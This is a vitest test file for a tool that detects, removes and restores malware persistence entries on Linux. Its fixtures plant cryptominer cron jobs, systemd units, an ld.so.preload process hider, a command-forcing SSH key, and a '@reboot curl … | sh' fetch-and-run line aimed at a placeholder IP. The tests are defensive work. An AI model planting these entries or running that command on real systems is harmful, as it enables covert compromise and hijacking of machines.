import { execFileSync } from 'node:child_process';
import {
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { unpersistAction, withoutLines } from '../actions/unpersist.js';
import { exists, isImmutable } from '../fsutil.js';
import { SafetyGuard } from '../safety.js';
import { type ActionContext, RefusedError } from '../types.js';
import { findPersistence, type KeyPolicy } from './find.js';
import { indicatorsFor } from './indicators.js';
import { parseKeyLine } from './ssh-keys.js';

const EXE = '/dev/shm/.x/kdevtmpfsi';
const KEY_A = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHr7mZ5Hq1cWbA9xZbWmV0cJp2i4m3p0YQyQmZ9a1b2c admin@laptop';
const KEY_B = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7vbqajDhA4M1nZpWQeFWLZJxg4dQ0hYcZXmQ3m8YvC3bS9fJ2 x@y';
const NO_KEYS: KeyPolicy = { allowed: [], denied: [], windowStartMs: null };

let root: string;
let state: string;

function put(path: string, text: string, mode = 0o644): void {
  mkdirSync(dirname(join(root, path)), { recursive: true });
  writeFileSync(join(root, path), text, { mode });
}

function ctx(): ActionContext {
  return {
    root,
    procDir: '/proc',
    stateDir: state,
    safety: new SafetyGuard({ procDir: '/proc' }),
    now: Date.now,
  };
}

function snapshot(paths: string[]): Map<string, { bytes: Buffer; mode: number; mtimeMs: number } | null> {
  return new Map(
    paths.map((p) => {
      const f = join(root, p);
      if (!exists(f)) return [p, null];
      const st = statSync(f);
      return [p, { bytes: readFileSync(f), mode: st.mode, mtimeMs: st.mtimeMs }];
    }),
  );
}

/** chattr works on ext4/xfs/btrfs, not tmpfs: test it where the temporary root supports it. */
function attrsSupported(dir: string): boolean {
  try {
    execFileSync('lsattr', ['-d', dir], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'mw-persist-root-'));
  state = mkdtempSync(join(tmpdir(), 'mw-persist-state-'));
});

afterEach(() => {
  try {
    execFileSync('chattr', ['-R', '-i', root], { stdio: 'ignore' });
  } catch {}
  rmSync(root, { recursive: true, force: true });
  rmSync(state, { recursive: true, force: true });
});

describe('persistence: find, remove with backup, undo byte for byte', () => {
  it('finds every kind by the intrusion indicators and leaves unrelated entries alone', () => {
    put(
      '/etc/crontab',
      `SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n*/3 * * * * root ${EXE} >/dev/null\n`,
    );
    put('/etc/cron.d/sysupdate', `* * * * * root /dev/shm/.x/kdevtmpfsi\n# comment\n`);
    put('/etc/cron.d/backup', '0 3 * * * root /usr/local/bin/backup\n');
    put('/var/spool/cron/crontabs/root', `@reboot curl -s http://198.51.100.9/x | sh; ${EXE}\n`);
    put('/etc/systemd/system/kworkerd.service', `[Service]\nExecStart=${EXE} -o pool:3333\n`);
    put('/etc/systemd/system/kworkerd.timer', '[Timer]\nOnBootSec=1min\n');
    mkdirSync(join(root, '/etc/systemd/system/multi-user.target.wants'), { recursive: true });
    symlinkSync(
      '/etc/systemd/system/kworkerd.service',
      join(root, '/etc/systemd/system/multi-user.target.wants/kworkerd.service'),
    );
    put('/etc/systemd/system/sshd.service', '[Service]\nExecStart=/usr/sbin/sshd -D\n');
    put('/etc/ld.so.preload', '/usr/lib/libfine.so\n/tmp/.lib/libprocesshider.so\n');
    put('/root/.bashrc', `alias ll='ls -l'\n(nohup ${EXE} &) 2>/dev/null\n`);
    put('/root/.ssh/authorized_keys', `${KEY_A}\ncommand="${EXE}" ${KEY_B}\n`, 0o600);

    const ind = indicatorsFor([EXE], [], [['kdevtmpfsi', '-o', 'pool.example:3333']]);
    expect(ind.values).toEqual(
      expect.arrayContaining([EXE, 'kdevtmpfsi', '/dev/shm/.x', 'pool.example:3333']),
    );
    const found = findPersistence(root, ind, NO_KEYS);
    const byPath = new Map(found.map((e) => [e.path, e]));
    expect([...byPath.keys()].sort()).toEqual(
      [
        '/etc/crontab',
        '/etc/cron.d/sysupdate',
        '/var/spool/cron/crontabs/root',
        '/etc/systemd/system/kworkerd.service',
        '/etc/systemd/system/kworkerd.timer',
        '/etc/ld.so.preload',
        '/root/.bashrc',
        '/root/.ssh/authorized_keys',
      ].sort(),
    );
    expect(byPath.get('/etc/crontab')).toMatchObject({ mode: 'lines', lines: [{ n: 3 }] });
    expect(byPath.get('/etc/cron.d/sysupdate')?.mode).toBe('file');
    expect(byPath.get('/etc/systemd/system/kworkerd.service')?.symlinks).toEqual([
      '/etc/systemd/system/multi-user.target.wants/kworkerd.service',
    ]);
    expect(byPath.get('/etc/ld.so.preload')?.lines.map((l) => l.n)).toEqual([2]);
    expect(byPath.get('/root/.ssh/authorized_keys')).toMatchObject({
      needsConfirmation: true,
      lines: [{ n: 2 }],
    });
  });

  it('removes and restores every entry exactly: bytes, mode, times and enabling symlinks', async () => {
    put(
      '/etc/crontab',
      `SHELL=/bin/sh\r\n*/3 * * * * root ${EXE}\r\n17 * * * * root run-parts /etc/cron.hourly\r\n`,
    );
    put('/etc/cron.d/sysupdate', `* * * * * root ${EXE}\n`);
    put('/etc/systemd/system/kworkerd.service', `[Service]\nExecStart=${EXE}\n`);
    mkdirSync(join(root, '/etc/systemd/system/multi-user.target.wants'), { recursive: true });
    const link = '/etc/systemd/system/multi-user.target.wants/kworkerd.service';
    symlinkSync('/etc/systemd/system/kworkerd.service', join(root, link));
    put('/root/.ssh/authorized_keys', `${KEY_A}\n${KEY_B}`, 0o600);
    const paths = [
      '/etc/crontab',
      '/etc/cron.d/sysupdate',
      '/etc/systemd/system/kworkerd.service',
      '/root/.ssh/authorized_keys',
    ];
    const before = snapshot(paths);
    const keys: KeyPolicy = { allowed: [parseKeyLine(KEY_A)!.fingerprint], denied: [], windowStartMs: 0 };
    const entries = findPersistence(root, indicatorsFor([EXE], [], []), keys);
    expect(entries.map((e) => e.path).sort()).toEqual([...paths].sort());

    const undos = [];
    for (const e of entries) {
      const u = await unpersistAction.apply(e, ctx());
      expect(await unpersistAction.verify(e, u, ctx())).toMatchObject({ ok: true });
      undos.push({ e, u });
    }
    expect(readFileSync(join(root, '/etc/crontab'), 'utf8')).toBe(
      'SHELL=/bin/sh\r\n17 * * * * root run-parts /etc/cron.hourly\r\n',
    );
    expect(exists(join(root, '/etc/cron.d/sysupdate'))).toBe(false);
    expect(exists(join(root, link))).toBe(false);
    expect(readFileSync(join(root, '/root/.ssh/authorized_keys'), 'utf8')).toBe(`${KEY_A}\n`);
    expect(statSync(join(root, '/root/.ssh/authorized_keys')).mode & 0o777).toBe(0o600);

    for (const { e, u } of undos.reverse()) await unpersistAction.undo(e, u, ctx());
    const after = snapshot(paths);
    for (const p of paths) {
      expect(after.get(p)?.bytes.equals(before.get(p)!.bytes), p).toBe(true);
      expect(after.get(p)?.mode, p).toBe(before.get(p)?.mode);
      expect(Math.round(after.get(p)!.mtimeMs), p).toBe(Math.round(before.get(p)!.mtimeMs));
    }
    expect(readlinkSync(join(root, link))).toBe('/etc/systemd/system/kworkerd.service');
  });

  it('lifts and restores the immutable flag an attacker set', async (t) => {
    if (!attrsSupported(root)) t.skip();
    put('/etc/cron.d/sysupdate', `SHELL=/bin/sh\n* * * * * root ${EXE}\n`);
    execFileSync('chattr', ['+i', join(root, '/etc/cron.d/sysupdate')]);
    const before = readFileSync(join(root, '/etc/cron.d/sysupdate'));
    const [entry] = findPersistence(root, indicatorsFor([EXE], [], []), NO_KEYS);
    expect(entry).toMatchObject({ mode: 'lines', lines: [{ n: 2 }] });
    const u = await unpersistAction.apply(entry!, ctx());
    expect(u.immutable).toBe(true);
    expect(readFileSync(join(root, '/etc/cron.d/sysupdate'), 'utf8')).toBe('SHELL=/bin/sh\n');
    expect(await isImmutable(join(root, '/etc/cron.d/sysupdate'))).toBe(true);
    await unpersistAction.undo(entry!, u, ctx());
    expect(readFileSync(join(root, '/etc/cron.d/sysupdate')).equals(before)).toBe(true);
    expect(await isImmutable(join(root, '/etc/cron.d/sysupdate'))).toBe(true);
  });

  it('refuses when the file changed since the plan, and undo refuses to clobber later edits', async () => {
    put('/etc/crontab', `* * * * * root ${EXE}\n1 1 * * * root true\n`);
    const [entry] = findPersistence(root, indicatorsFor([EXE], [], []), NO_KEYS);
    put('/etc/crontab', `* * * * * root ${EXE}\n2 2 * * * root true\n`);
    await expect(unpersistAction.apply(entry!, ctx())).rejects.toBeInstanceOf(RefusedError);
    const [fresh] = findPersistence(root, indicatorsFor([EXE], [], []), NO_KEYS);
    const u = await unpersistAction.apply(fresh!, ctx());
    put('/etc/crontab', 'edited by the admin afterwards\n');
    await expect(unpersistAction.undo(fresh!, u, ctx())).rejects.toThrow(/changed after the action/);
    expect(readFileSync(join(root, '/etc/crontab'), 'utf8')).toBe('edited by the admin afterwards\n');
  });

  it('hostile input: path traversal in journaled params, huge files, symlinked files, junk key lines', async () => {
    const bad = {
      kind: 'cron' as const,
      path: '/etc/../../etc/passwd',
      mode: 'file' as const,
      lines: [],
      why: 'x',
      sha256: '0'.repeat(64),
      symlinks: [],
      needsConfirmation: false,
    };
    await expect(unpersistAction.apply(bad, ctx())).rejects.toThrow(/contains '..'/);
    put('/etc/cron.d/huge', `${'#'.repeat(2 * 1024 * 1024)}\n* * * * * root ${EXE}\n`);
    mkdirSync(join(root, '/etc/cron.d'), { recursive: true });
    symlinkSync('/etc/shadow', join(root, '/etc/cron.d/link'));
    put('/root/.ssh/authorized_keys', `garbage ${EXE}\nssh-rsa not*base64 ${EXE}\n`);
    const found = findPersistence(root, indicatorsFor([EXE], [], []), NO_KEYS);
    expect(found.map((f) => f.path)).toEqual(['/root/.ssh/authorized_keys']);
    expect(lstatSync(join(root, '/etc/cron.d/link')).isSymbolicLink()).toBe(true);
    expect(parseKeyLine('ssh-rsa not*base64 c')).toBeNull();
    expect(
      parseKeyLine('from="10.0.0.1",command="echo a b" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHr7 c d'),
    ).toMatchObject({
      type: 'ssh-ed25519',
      comment: 'c d',
      options: 'from="10.0.0.1",command="echo a b"',
    });
  });

  it('withoutLines keeps line endings and the final newline', () => {
    expect(withoutLines('a\nb\nc\n', [2])).toBe('a\nc\n');
    expect(withoutLines('a\r\nb\r\nc', [3])).toBe('a\r\nb\r\n');
    expect(withoutLines('a', [1])).toBe('');
  });
});
